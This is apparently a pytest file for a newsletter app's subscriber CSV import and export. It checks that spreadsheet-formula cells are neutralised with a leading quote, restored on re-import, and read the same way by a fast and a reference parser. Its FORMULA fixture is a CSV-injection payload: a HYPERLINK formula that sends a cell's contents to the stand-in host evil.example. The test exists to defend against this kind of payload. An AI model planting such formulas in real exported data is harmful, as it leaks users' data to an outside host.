"""Subscriber CSV output is safe to open in a spreadsheet, and re-imports to the same values."""

import csv
import io
import json

import pytest

from pain_news.subscribers.csv_files import neutralise, restore

FORMULA = '=HYPERLINK("http://evil.example/?"&A3,"Open")'


@pytest.mark.parametrize(
    "cell, written",
    [
        (FORMULA, "'" + FORMULA),
        ("+1 555", "'+1 555"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Ana", "Ana"),
        ("'quoted", "'quoted"),
        ("", ""),
    ],
)
def test_cells_that_a_spreadsheet_would_run_get_a_quote_and_lose_it_again(cell, written):
    assert neutralise(cell) == written
    assert restore(written) == cell


def _rows(text):
    return list(csv.DictReader(io.StringIO(text)))


def test_export_and_list_neutralise_formulas_and_the_export_reimports_unchanged(project, run_cli, store):
    store.add("ana@example.org", FORMULA, "-Lopez", ["@vip"])
    store.add("ben@example.org", "Ben", "+Ortiz")
    store.unsubscribe("ben@example.org")

    listed = _rows(run_cli("subscribers", "list", "--format", "csv").stdout)
    assert listed[0]["first_name"] == "'" + FORMULA
    assert listed[0]["last_name"] == "'-Lopez"
    assert listed[0]["tags"] == "'@vip"
    assert listed[1]["last_name"] == "'+Ortiz"

    run_cli("subscribers", "export", "backup.csv")
    exported = _rows((project / "backup.csv").read_text(encoding="utf-8"))
    assert exported[0]["first_name"] == "'" + FORMULA and exported[1]["last_name"] == "'+Ortiz"
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in exported for cell in row.values()
    )

    fresh = {"PAIN_NEWS_DATABASE_URL": f"sqlite:///{project / 'fresh.db'}"}
    run_cli("subscribers", "import", "backup.csv", env=fresh)
    records = {
        r["email"]: r
        for r in json.loads(run_cli("subscribers", "list", "--format", "json", env=fresh).stdout)
    }
    assert records["ana@example.org"]["first_name"] == FORMULA
    assert records["ana@example.org"]["last_name"] == "-Lopez"
    assert records["ana@example.org"]["tags"] == ["@vip"]
    assert records["ben@example.org"]["last_name"] == "+Ortiz"
    assert records["ben@example.org"]["status"] == "unsubscribed"


def _by_the_rules(text, known_topics):
    """What read_rows gives when every line goes through _read_row, the rules one cell at a time."""
    from pain_news.subscribers.csv_files import COLUMNS, _read_row, column_key, sniff_delimiter

    reader = csv.reader(io.StringIO(text, newline=""), delimiter=sniff_delimiter(text))
    header = next(reader)
    names = [COLUMNS.get(column_key(h), "") for h in header]
    index = {name: i for i, name in reversed(list(enumerate(names))) if name}
    start, found = reader.line_num + 1, []
    for fields in reader:
        line, start = start, reader.line_num + 1
        row = _read_row(fields, line, len(header), index, known_topics, ("en", "es"))
        if row is not None:
            found.append(row)
    return found


TRICKY = {
    "email": [
        "ana@example.org",
        " Ana@Example.ORG ",
        "'+ana@example.org",
        "'=ana@example.org",
        "'ana@example.org",
        "ana@",
        "@example.org",
        "",
        "  ",
        "a\x00b@example.org",
        "ana@exam ple.org",
        '"a b"@example.org',
        "ana\u00a0@example.org",
        "ana@münchen.de",
        "a..b@example.org",
        "x" * 65 + "@example.org",
        "ana@example.org\n",
        "=cmd@example.org",
        "ana@localhost",
    ],
    "name": [
        "",
        "Ana",
        " Ana ",
        "'=Ana",
        "'Ana",
        "An\x00a",
        "Ana\r\nMaria",
        "Ana\tMaria",
        "Ana\u00a0Maria",
        "\u00a0Ana",
        "x" * 200,
        "x" * 201,
        " " + "x" * 200,
        "Ana\\Maria",
        "'\tAna",
        "Zoë",
        "\u2028Ana",
    ],
    "tags": [
        "",
        "back",
        "Back;KNEE",
        "back,knee|hip",
        " ; back ;; ",
        "'=x",
        "k\x07nee",
        "a\nb",
        "x" * 100,
        "x" * 101,
        "back;" + "y" * 101,
        "'back",
        "hip|Hip",
        "a\tb;c",
    ],
    "topics": ["", "news", "News;EVENTS", "news,unknown", "'news", "ne\nws", " news ; ", "events|news|news"],
    "status": [
        "",
        "active",
        "ACTIVE",
        " Unsubscribed ",
        "bounced",
        "complained",
        "pending",
        "gone",
        "'bounced",
    ],
    "language": ["", "en", "es", "Spanish", " español ", "es-US", "ES", "klingon", "'es", "fr", "e\ns"],
}


def test_the_quick_path_reads_every_line_as_the_rules_do(tmp_path):
    import random

    from pain_news.subscribers.csv_files import Row, read_rows

    rng = random.Random(11)
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["E-mail", "First Name", "last_name", "tags", "topics", "status", "Language"])
    for _ in range(3000):
        cells = [  # mostly plain values, so that good rows come in long runs as they do in real files
            rng.choice(TRICKY[k][:2] if rng.random() < 0.7 else TRICKY[k])
            for k in ("email", "name", "name", "tags", "topics", "status", "language")
        ]
        if rng.random() < 0.03:
            cells = cells[: rng.randrange(7)] if rng.random() < 0.5 else [*cells, "extra"]
        writer.writerow(cells)
        if rng.random() < 0.02:
            out.write(rng.choice(["\n", ",,,,,\n", " , ,\n"]))
    text = out.getvalue()
    known = ("news", "events")
    got = list(read_rows(tmp_path / "x.csv", text, known, ("en", "es")))
    assert got == _by_the_rules(text, known)
    assert {r.language for r in got if isinstance(r, Row)} == {"", "en", "es"}
    assert 500 < sum(type(r).__name__ == "Row" for r in got) < 2900  # both paths taken, many times
